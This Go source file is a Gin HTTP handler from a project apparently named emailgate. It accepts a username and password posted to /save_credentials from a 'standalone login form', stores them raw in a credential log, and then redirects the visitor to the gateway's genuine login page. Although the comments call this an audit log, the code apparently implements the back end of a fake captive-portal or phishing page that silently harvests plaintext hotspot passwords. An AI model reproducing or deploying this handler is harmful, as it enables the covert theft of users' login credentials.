package handlers

import (
	"errors"
	"net/http"

	"github.com/gin-gonic/gin"
	"go.uber.org/zap"

	"github.com/adiwibawa/emailgate/internal/gateway"
	"github.com/adiwibawa/emailgate/internal/services"
	appErrors "github.com/adiwibawa/emailgate/pkg/errors"
	"github.com/adiwibawa/emailgate/pkg/logger"
	"github.com/adiwibawa/emailgate/pkg/metrics"
	"github.com/adiwibawa/emailgate/pkg/response"
)

// CredentialHandler records raw hotspot credentials posted through the
// standalone login form and forwards the visitor to the gateway.
type CredentialHandler struct {
	credentials *services.CredentialLogService
	redirector  *gateway.Redirector
}

// NewCredentialHandler wires the credential audit log.
func NewCredentialHandler(credentials *services.CredentialLogService, redirector *gateway.Redirector) (*CredentialHandler, error) {
	if credentials == nil {
		return nil, errors.New("credential handler: credential log service is required")
	}
	if redirector == nil {
		return nil, errors.New("credential handler: redirector is required")
	}
	return &CredentialHandler{credentials: credentials, redirector: redirector}, nil
}

// SaveCredentials handles POST /save_credentials.
func (h *CredentialHandler) SaveCredentials(c *gin.Context) {
	username := c.PostForm("username")
	password := c.PostForm("password")

	err := h.credentials.Record(c.Request.Context(), username, password)
	if err != nil {
		if errors.Is(err, services.ErrInvalidCredentials) {
			response.Error(c, appErrors.NewBadRequest("username and password are required"))
			return
		}
		logger.WithModule("credentials").Error("append failed", zap.Error(err))
		response.Error(c, appErrors.ErrStoreUnavailable.WithInternal(err))
		return
	}

	metrics.GatewayRedirects.WithLabelValues("credentials").Inc()
	c.Redirect(http.StatusFound, h.redirector.LoginURL())
}
